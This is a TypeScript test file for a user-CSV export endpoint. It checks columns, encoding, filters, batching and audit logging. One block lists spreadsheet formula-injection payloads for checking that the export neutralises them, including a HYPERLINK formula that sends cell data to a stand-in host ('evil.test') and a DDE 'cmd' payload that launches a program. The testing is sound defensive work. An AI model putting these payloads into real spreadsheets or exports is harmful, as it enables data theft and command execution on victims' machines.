import type { ApiClient } from "@latchkey/client";
import type { Tag } from "@latchkey/contract";
import fc from "fast-check";
import Papa from "papaparse";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { changedTables } from "../../../test/database-state.ts";
import type { Makers } from "../../../test/makers.ts";
import { startTestApp, type TestApp } from "../../../test/test-app.ts";
import { csvLine } from "../../platform/csv.ts";
import { joinValues } from "./user-csv.ts";

let latchkey: TestApp;
let profile: Awaited<ReturnType<Makers["aProfile"]>>;
beforeAll(async () => {
  latchkey = await startTestApp();
});
afterAll(() => latchkey.close());
beforeEach(async () => {
  profile = await latchkey.make.aProfile();
});

type Query = NonNullable<Parameters<ApiClient["users"]["exportUsers"]>[0]["query"]>;
const params = () => ({ profileId: profile.id });
let count = 0;
const add = async (name: string, tags: Tag[] = []) => {
  count += 1;
  const { user } = await profile.client.users.createUser({
    params: params(),
    body: { name, email: `export-${count}@latchkey.test`, tags },
  });
  return user;
};

async function exported(query: Query = {}): Promise<Record<string, string>[]> {
  const csv = await profile.client.users.exportUsers({ params: params(), query });
  const { data, errors } = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

test("has a line for each user with id, name, e-mail, date, status, last sign-in, language and a column for every tag key", async () => {
  const ann = await latchkey.make.aUser(profile, {
    name: "Ann",
    tags: [
      { key: "region", value: "north" },
      { key: "level", value: "chief" },
      { key: "level", value: "a;b\\c" },
    ],
  });
  const ben = await add("Ben", [{ key: "Region", value: "south" }]);
  await profile.client.users.updateUser({ params: { ...params(), userId: ben.id }, body: { language: "pt-BR" } });
  const anonymous = await profile.client.users.createAnonymousUser({ params: params(), body: {} });

  const fixed = ["id", "name", "email", "subscribed_at", "status", "last_sign_in_at", "language"];
  const rows = await exported();
  expect(Object.keys(rows[0] ?? {}).slice(0, 7)).toEqual(fixed);
  expect(new Set(Object.keys(rows[0] ?? {}).slice(7))).toEqual(new Set(["tag:Region", "tag:level", "tag:region"]));
  const now = latchkey.clock.now().toISOString();
  const byId = new Map(rows.map((row) => [row["id"], row]));
  expect(byId.get(ann.id)).toMatchObject({
    name: "Ann",
    email: ann.email,
    subscribed_at: now,
    status: "active",
    last_sign_in_at: now,
    language: "",
    "tag:region": "north",
    "tag:level": "chief;a\\;b\\\\c",
    "tag:Region": "",
  });
  expect(byId.get(ben.id)).toMatchObject({
    status: "invited",
    last_sign_in_at: "",
    language: "pt-BR",
    "tag:Region": "south",
    "tag:region": "",
  });
  expect(byId.get(anonymous.id)).toMatchObject({ name: "Anonymous user", email: "", "tag:level": "" });
  expect(rows).toHaveLength(3);
});

test("is a download in UTF-8 that spreadsheets recognise, and never cached", async () => {
  await add("Zoë 漢字 🦊");
  const answer = await latchkey.request({
    method: "GET",
    url: `/api/v1/profiles/${profile.id}/users/export`,
    headers: { authorization: `Bearer ${profile.administrator.token}` },
  });
  expect(answer.headers).toMatchObject({
    "content-type": "text/csv; charset=utf-8",
    "content-disposition": 'attachment; filename="users-2026-03-02.csv"',
    "cache-control": "no-store",
    "x-content-type-options": "nosniff",
  });
  expect([...answer.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(answer.rawPayload.toString("utf8")).toContain("Zoë 漢字 🦊");
});

test("keeps quotes, separators, line breaks and other scripts as they are", async () => {
  const names = ['Quote " and , comma', "Semi;colon", "Two\nlines", "Back\\slash", "Ünïcödé 漢字 🦊", "''apostrophes''", "tab\there"];
  for (const name of names) await add(name, [{ key: "note", value: name }]);
  const rows = await exported();
  expect(new Set(rows.map((row) => row["name"]))).toEqual(new Set(names));
  for (const row of rows) expect(row["tag:note"]).toBe(joinValues([row["name"] ?? ""]));
});

describe("a cell that a spreadsheet would run as a formula", () => {
  const formulas = [
    "=1+1",
    '=HYPERLINK("http://evil.test?"&A1)',
    "+SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-",
    "+",
    "=",
    "-1-1",
    "--5",
    "+49 30 1234",
  ];

  test.each(formulas)("%j is neutralised in the safe form and exact in the raw one", async (formula) => {
    await add(formula, [{ key: "formula", value: formula }]);
    expect(await exported()).toMatchObject([{ name: `'${formula}` }]);
    expect(await exported({ format: "raw" })).toMatchObject([{ name: formula }]);
  });

  test.each(["-4.5", "-12", "-0.001", "-1e5", "12"])("%s is a number and stays one", async (number) => {
    await add("Number", [{ key: "balance", value: number }]);
    expect(await exported()).toMatchObject([{ "tag:balance": number }]);
  });

  test("is never left over: no cell of any line begins like a formula unless it is a plain number", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.string(),
            fc.constantFrom(...formulas),
            fc.string().map((text) => `\t${text}`),
          ),
          { minLength: 1, maxLength: 5 },
        ),
        (cells) => {
          const [row = []] = Papa.parse<string[]>(csvLine(cells).replace(/\r\n$/, ""), { delimiter: ",", newline: "\r\n" }).data;
          for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)).toBe(false);
        },
      ),
      { numRuns: 500 },
    );
  });

  test("in the raw form every line reads back exactly as it was", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "grapheme" }), { minLength: 2, maxLength: 5 }), (cells) => {
        const line = csvLine(cells, "raw");
        expect(line.endsWith("\r\n")).toBe(true);
        expect(Papa.parse<string[]>(line.slice(0, -2), { delimiter: ",", newline: "\r\n" }).data[0]).toEqual(cells);
      }),
      { numRuns: 500 },
    );
  });
});

test("holds exactly the users that the list shows for the same filter", async () => {
  await latchkey.make.aUser(profile, { name: "Ann", tags: [{ key: "region", value: "north" }] });
  const ben = await add("Ben", [{ key: "region", value: "north" }]);
  const cid = await add("Cid", [{ key: "region", value: "south" }]);
  await profile.client.users.suspendUser({ params: { ...params(), userId: ben.id }, body: {} });
  await profile.client.users.deleteUser({ params: { ...params(), userId: cid.id } });

  const filters: Query[] = [
    {},
    { tag: ["region=north"] },
    { status: ["suspended"] },
    { status: ["deleted"] },
    { search: "an" },
    { lastSignIn: "never" },
    { source: ["api"] },
    { tag: ["region"], search: "b" },
  ];
  for (const query of filters) {
    const { format: _format, ...filter } = query;
    const listed = (await profile.client.users.listUsers({ params: params(), query: { ...filter, limit: 200 } })).items.map(
      (user) => user.id,
    );
    expect({ query, ids: (await exported(query)).map((row) => row["id"]).toSorted() }).toEqual({ query, ids: listed.toSorted() });
  }
});

test("of nobody is the header alone", async () => {
  const csv = await profile.client.users.exportUsers({ params: params(), query: { search: "nobody at all" } });
  expect(csv.replace(/^\uFEFF/, "")).toBe("id,name,email,subscribed_at,status,last_sign_in_at,language\r\n");
});

test("of some thousand users is complete and streams in batches", async () => {
  const rows = Array.from({ length: 2500 }, (_, index) => ({
    profile_id: profile.id,
    id: index.toString(16).padStart(24, "0"),
    name: `Person ${index}`,
    email: `bulk-${index}@latchkey.test`,
    status: "active" as const,
    source: "api",
    tags: [`n=${index % 3}`],
    created_at: latchkey.clock.now(),
    updated_at: latchkey.clock.now(),
    last_sign_in_at: null,
    suspended_at: null,
    deleted_at: null,
  }));
  for (let start = 0; start < rows.length; start += 500)
    await latchkey.db
      .insertInto("users")
      .values(rows.slice(start, start + 500))
      .execute();
  const found = await exported();
  expect(found).toHaveLength(2500);
  expect(new Set(found.map((row) => row["id"])).size).toBe(2500);
  expect(await exported({ tag: ["n=1"] })).toHaveLength(833);
});

test("is written down with its filter, before the first line leaves", async () => {
  await add("Ann");
  const changed = await changedTables(latchkey.db, () =>
    profile.client.users.exportUsers({ params: params(), query: { search: "ann", tag: ["region"] } }),
  );
  expect(changed).toEqual(["audit_entries"]);
  const log = await profile.client.audit.listAudit({ params: params(), query: { action: ["users.exported"] } });
  expect(log.items).toMatchObject([{ after: { search: "ann", tag: ["region"], format: "safe" }, actor: { type: "administrator" } }]);
});

test("with a filter that does not exist is refused", async () => {
  await expect(exported({ format: "xlsx" as never })).rejects.toMatchObject({ status: 400 });
  await expect(exported({ status: ["gone" as never] })).rejects.toMatchObject({ status: 400 });
});
